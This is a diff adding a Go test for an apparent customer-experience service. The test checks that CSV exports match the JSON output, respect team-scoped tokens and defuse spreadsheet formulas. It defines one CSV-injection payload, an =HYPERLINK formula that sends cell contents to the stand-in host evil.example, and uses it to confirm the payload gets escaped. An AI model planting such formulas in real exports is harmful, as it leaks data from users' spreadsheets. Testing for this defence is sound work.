@@ -1,0 +1,343 @@
+package api_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"math"
+	"net/http"
+	"reflect"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/cxloop/cxloop/internal/app/apptest"
+	"github.com/cxloop/cxloop/internal/store/storetest"
+)
+
+// getCSV fetches path as CSV with token (asking by Accept when byAccept,
+// else by ?format=csv) and returns its header and rows.
+func getCSV(t *testing.T, s *apptest.Server, path, token string, byAccept bool) ([]string, [][]string) {
+	t.Helper()
+	headers := []string{"Authorization: Bearer " + token}
+	if byAccept {
+		headers = append(headers, "Accept: text/csv")
+	} else if strings.Contains(path, "?") {
+		path += "&format=csv"
+	} else {
+		path += "?format=csv"
+	}
+	req, _ := http.NewRequest("GET", s.URL+path, nil)
+	for _, h := range headers {
+		k, v, _ := strings.Cut(h, ": ")
+		req.Header.Set(k, v)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var body bytes.Buffer
+	_, _ = body.ReadFrom(resp.Body)
+	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
+		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment; filename=") || !strings.Contains(resp.Header.Get("Content-Disposition"), `.csv"`) {
+		t.Fatalf("GET %s as CSV: %d %q %q %s", path, resp.StatusCode, resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"), body.String())
+	}
+	recs, err := csv.NewReader(&body).ReadAll()
+	if err != nil || len(recs) == 0 {
+		t.Fatalf("GET %s: not CSV with a header (%v): %s", path, err, body.String())
+	}
+	return recs[0], recs[1:]
+}
+
+// getJSON fetches path as JSON with token and returns the list under key.
+func getJSON(t *testing.T, s *apptest.Server, path, token, key string) []map[string]any {
+	t.Helper()
+	code, body := s.Do("GET", path, nil, "Authorization: Bearer "+token)
+	if code != 200 {
+		t.Fatalf("GET %s: %d %s", path, code, body)
+	}
+	var out map[string]any
+	if err := json.Unmarshal(body, &out); err != nil {
+		t.Fatal(err)
+	}
+	var list []map[string]any
+	raw, _ := json.Marshal(out[key])
+	_ = json.Unmarshal(raw, &list)
+	return list
+}
+
+// at reads a dotted path of a JSON value.
+func at(v any, path string) (any, bool) {
+	for _, k := range strings.Split(path, ".") {
+		m, ok := v.(map[string]any)
+		if !ok {
+			return nil, false
+		}
+		if v, ok = m[k]; !ok {
+			return nil, false
+		}
+	}
+	return v, true
+}
+
+// sameRows checks that the CSV rows say what the JSON items say, cell by
+// cell, and that every field of the JSON has its column.
+func sameRows(t *testing.T, what string, items []map[string]any, header []string, rows [][]string) {
+	t.Helper()
+	if len(rows) != len(items) {
+		t.Fatalf("%s: %d CSV rows, %d JSON items", what, len(rows), len(items))
+	}
+	cols := map[string]bool{}
+	for _, h := range header {
+		cols[h] = true
+		for p := h; strings.Contains(p, "."); {
+			p = p[:strings.LastIndex(p, ".")]
+			cols[p] = true
+		}
+	}
+	for i, item := range items {
+		for k := range item {
+			if !cols[k] {
+				t.Errorf("%s: JSON field %q has no column in %v", what, k, header)
+			}
+		}
+		for j, h := range header {
+			v, _ := at(item, h)
+			got := rows[i][j]
+			switch x := v.(type) {
+			case nil:
+				if got != "" {
+					t.Errorf("%s row %d %s = %q, JSON null/absent", what, i, h, got)
+				}
+			case string:
+				want := x
+				if x != "" && strings.ContainsRune("=+-@\t\r", rune(x[0])) {
+					want = "'" + x
+				}
+				if got != want {
+					t.Errorf("%s row %d %s = %q, JSON %q", what, i, h, got, x)
+				}
+			case float64:
+				f, err := strconv.ParseFloat(got, 64)
+				if err != nil || math.Abs(f-x) > 1e-9*math.Max(1, math.Abs(x)) {
+					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, x)
+				}
+			case bool:
+				if got != strconv.FormatBool(x) {
+					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, x)
+				}
+			default:
+				var back any
+				if err := json.Unmarshal([]byte(got), &back); err != nil || !reflect.DeepEqual(back, v) {
+					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, v)
+				}
+			}
+		}
+	}
+}
+
+func col(t *testing.T, header []string, name string) int {
+	t.Helper()
+	for i, h := range header {
+		if h == name {
+			return i
+		}
+	}
+	t.Fatalf("no column %q in %v", name, header)
+	return -1
+}
+
+const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
+
+// Every list and report exports as CSV the rows its JSON gives, under a
+// team-scoped token only its teams' cases, with formulas defused.
+func TestCSVExports(t *testing.T) {
+	storetest.EachDSN(t, func(t *testing.T, dsn string) {
+		s, clock := apptest.StartAt(t, dsn, apptest.Epoch)
+		for _, team := range []string{"service", "billing"} {
+			if code := s.API("POST", "/api/v1/teams", map[string]any{"name": team}, nil); code != 201 {
+				t.Fatalf("team: %d", code)
+			}
+		}
+		var detractors, complaints struct{ ID string }
+		if code := s.API("POST", "/api/v1/rules", json.RawMessage(`{"name": "detractors", "when": {"event": "Survey Responded", "nps_max": 6},
+			"then": {"open_case": {"team": "service", "kind": "detractor", "sla": "24h"}}}`), &detractors); code != 201 {
+			t.Fatalf("rule: %d", code)
+		}
+		if code := s.API("POST", "/api/v1/rules", json.RawMessage(`{"name": "refunds", "when": {"event": "Refund Requested"},
+			"then": {"open_case": {"team": "billing", "kind": "question", "sla": "48h"}}}`), &complaints); code != 201 {
+			t.Fatalf("rule: %d", code)
+		}
+		var sv struct{ ID string }
+		if code := s.API("POST", "/api/v1/surveys", json.RawMessage(`{"name": "NPS", "rhythm": "pulse", "owner": "service",
+			"questions": [{"id": "q1", "type": "nps", "text": {"en": "?"}}, {"id": "q2", "type": "text", "text": {"en": "Why?"}}]}`), &sv); code != 201 {
+			t.Fatalf("survey: %d", code)
+		}
+		// Five answers, two of them detractors; one comment is a formula.
+		scores := []int{3, 9, 10, 6, 8}
+		for i, sc := range scores {
+			comment := fmt.Sprintf("comment %d", i)
+			if i == 0 {
+				comment = hyperlink
+			}
+			s.MustSend("identify", map[string]any{"userId": fmt.Sprintf("u%d", i), "traits": map[string]any{"name": hyperlink, "email": fmt.Sprintf("u%d@example.com", i)}})
+			at := apptest.Epoch.Add(-time.Duration(i+1) * time.Hour).UTC()
+			if code := s.API("POST", "/api/v1/surveys/"+sv.ID+"/responses", map[string]any{"customer": fmt.Sprintf("u%d", i),
+				"answers": map[string]any{"q1": sc, "q2": comment}, "at": at.Format(time.RFC3339)}, nil); code != 201 {
+				t.Fatalf("response: %d", code)
+			}
+		}
+		for i := range 3 {
+			s.MustSend("track", map[string]any{"userId": fmt.Sprintf("c%d", i), "event": "Refund Requested", "properties": map[string]any{"text": hyperlink}})
+		}
+		// One refused message for the quarantine.
+		s.Send("batch", map[string]any{"batch": []any{map[string]any{"type": "track", "userId": "q"}, map[string]any{"type": "track", "userId": "q", "event": "ok"}}})
+		var seg struct{ ID string }
+		if code := s.API("POST", "/api/v1/segments", map[string]any{"name": "everyone", "query": map[string]any{}}, &seg); code != 201 {
+			t.Fatalf("segment: %d", code)
+		}
+		s.Sync()
+
+		admin := apptest.Token
+		// Cases: rows equal the JSON's, and the figures are what the rules say.
+		h, rows := getCSV(t, s, "/api/v1/cases?status=all", admin, false)
+		items := getJSON(t, s, "/api/v1/cases?status=all&limit=1000", admin, "cases")
+		sameRows(t, "cases", items, h, rows)
+		byTeam := map[string]int{}
+		for _, r := range rows {
+			team, kind := r[col(t, h, "teamName")], r[col(t, h, "kind")]
+			created, err1 := time.Parse(time.RFC3339, r[col(t, h, "createdAt")])
+			due, err2 := time.Parse(time.RFC3339, r[col(t, h, "due_at")])
+			sla := map[string]time.Duration{"service": 24 * time.Hour, "billing": 48 * time.Hour}[team]
+			if err1 != nil || err2 != nil || due.Sub(created) != sla || due.Location() != time.UTC || !strings.HasSuffix(r[col(t, h, "due_at")], "Z") {
+				t.Errorf("case %v: due %v after creation, want %v (%v %v)", r, due.Sub(created), sla, err1, err2)
+			}
+			if (team == "service") != (kind == "detractor") || r[col(t, h, "breached")] != "false" || r[col(t, h, "status")] != "open" {
+				t.Errorf("case %v", r)
+			}
+			if kind == "question" && r[col(t, h, "body")] != "'"+hyperlink {
+				t.Errorf("complaint body %q is not defused", r[col(t, h, "body")])
+			}
+			byTeam[team]++
+		}
+		if byTeam["service"] != 2 || byTeam["billing"] != 3 || len(rows) != 5 {
+			t.Fatalf("cases by team %v, want 2 service (scores ≤ 6) and 3 billing", byTeam)
+		}
+		// Asked by Accept, the same.
+		if h2, rows2 := getCSV(t, s, "/api/v1/cases?status=all", admin, true); !reflect.DeepEqual(h2, h) || !reflect.DeepEqual(rows2, rows) {
+			t.Errorf("Accept: text/csv differs from ?format=csv")
+		}
+
+		// A billing agent's export holds billing's cases only.
+		var tok struct{ Token string }
+		if code := s.API("POST", "/api/v1/tokens", map[string]any{"name": "agent", "role": "agent", "teams": []string{"billing"}}, &tok); code != 201 {
+			t.Fatalf("token: %d", code)
+		}
+		h, rows = getCSV(t, s, "/api/v1/cases?status=all", tok.Token, false)
+		sameRows(t, "billing's cases", getJSON(t, s, "/api/v1/cases?status=all", tok.Token, "cases"), h, rows)
+		if len(rows) != 3 {
+			t.Fatalf("billing agent exports %d cases, want its 3", len(rows))
+		}
+		for _, r := range rows {
+			if r[col(t, h, "teamName")] != "billing" {
+				t.Errorf("billing agent exports %v", r)
+			}
+		}
+
+		// Responses: one column per question, the answers as given.
+		h, rows = getCSV(t, s, "/api/v1/surveys/"+sv.ID+"/responses", admin, false)
+		sameRows(t, "responses", getJSON(t, s, "/api/v1/surveys/"+sv.ID+"/responses", admin, "responses"), h, rows)
+		if len(rows) != len(scores) {
+			t.Fatalf("%d responses exported, want %d", len(rows), len(scores))
+		}
+		for i, r := range rows { // newest first: u0 answered an hour before the epoch, u1 two …
+			want := apptest.Epoch.Add(-time.Duration(i+1) * time.Hour).UTC()
+			if got, err := time.Parse(time.RFC3339, r[col(t, h, "respondedAt")]); err != nil || !got.Equal(want) {
+				t.Errorf("response %d respondedAt %q, want %v", i, r[col(t, h, "respondedAt")], want)
+			}
+			if r[col(t, h, "answers.q1")] != strconv.Itoa(scores[i]) {
+				t.Errorf("response %d q1 = %q, want %d", i, r[col(t, h, "answers.q1")], scores[i])
+			}
+		}
+		if got := rows[0][col(t, h, "answers.q2")]; got != "'"+hyperlink {
+			t.Errorf("comment %q is not defused", got)
+		}
+
+		// Scores: NPS from the five answers, computed here.
+		h, rows = getCSV(t, s, "/api/v1/scores?metric=nps&survey="+sv.ID, admin, false)
+		var sc struct {
+			Groups  []map[string]any
+			Overall map[string]any
+		}
+		s.API("GET", "/api/v1/scores?metric=nps&survey="+sv.ID, nil, &sc)
+		want := sc.Groups
+		if sc.Overall != nil {
+			want = append(want, sc.Overall)
+		}
+		sameRows(t, "scores", want, h, rows)
+		prom, det := 0, 0
+		for _, v := range scores {
+			if v >= 9 {
+				prom++
+			} else if v <= 6 {
+				det++
+			}
+		}
+		nps := 100 * float64(prom-det) / float64(len(scores))
+		if v, err := strconv.ParseFloat(rows[0][col(t, h, "value")], 64); err != nil || math.Abs(v-nps) > 1e-9 || rows[0][col(t, h, "n")] != "5" {
+			t.Errorf("NPS row %v, want value %v n 5", rows[0], nps)
+		}
+
+		// Customers: traits stay one JSON cell; search rows equal the JSON's.
+		h, rows = getCSV(t, s, "/api/v1/customers", admin, false)
+		sameRows(t, "customers", getJSON(t, s, "/api/v1/customers?limit=500", admin, "customers"), h, rows)
+		if len(rows) < 8 {
+			t.Errorf("%d customers exported", len(rows))
+		}
+
+		// The other lists and reports: the same rows as their JSON.
+		for _, c := range []struct{ path, key string }{
+			{"/api/v1/quarantine", "messages"},
+			{"/api/v1/rules/" + complaints.ID + "/firings", "firings"},
+			{"/api/v1/returns/rates?by=channel", "groups"},
+			{"/api/v1/returns/repurchase?by=channel", "groups"},
+			{"/api/v1/recovery", "complainers"},
+			{"/api/v1/analytics/at-risk", "customers"},
+			{"/api/v1/silent-dissatisfied", "customers"},
+		} {
+			h, rows := getCSV(t, s, c.path, admin, false)
+			sameRows(t, c.path, getJSON(t, s, c.path, admin, c.key), h, rows)
+		}
+		h, rows = getCSV(t, s, "/api/v1/rules/"+complaints.ID+"/firings", admin, false)
+		if len(rows) != 3 {
+			t.Errorf("refunds rule fired %d times in the export, want 3", len(rows))
+		}
+		h, rows = getCSV(t, s, "/api/v1/quarantine", admin, false)
+		if len(rows) != 1 || rows[0][col(t, h, "field")] != "batch[0].event" {
+			t.Errorf("quarantine export %v", rows)
+		}
+		h, rows = getCSV(t, s, "/api/v1/segments/"+seg.ID+"/members", admin, false)
+		var members struct{ Customers []string }
+		s.API("GET", "/api/v1/segments/"+seg.ID+"/members", nil, &members)
+		if len(h) != 1 || h[0] != "customer" || len(rows) != len(members.Customers) || len(rows) == 0 {
+			t.Fatalf("members: %v %d rows, JSON %d", h, len(rows), len(members.Customers))
+		}
+		for i, r := range rows {
+			if r[0] != members.Customers[i] {
+				t.Errorf("member %d %q, JSON %q", i, r[0], members.Customers[i])
+			}
+		}
+
+		// An error before the first row is still JSON; a bad format is named.
+		if code, body := s.Do("GET", "/api/v1/surveys/srv_none/responses?format=csv", nil, "Authorization: Bearer "+admin); code != 404 || !strings.Contains(string(body), `"not_found"`) {
+			t.Errorf("unknown survey as CSV: %d %s", code, body)
+		}
+		if code, body := s.Do("GET", "/api/v1/cases?format=xlsx", nil, "Authorization: Bearer "+admin); code != 400 || !strings.Contains(string(body), `"field":"format"`) {
+			t.Errorf("format=xlsx: %d %s", code, body)
+		}
+		_ = clock
+	})
+}
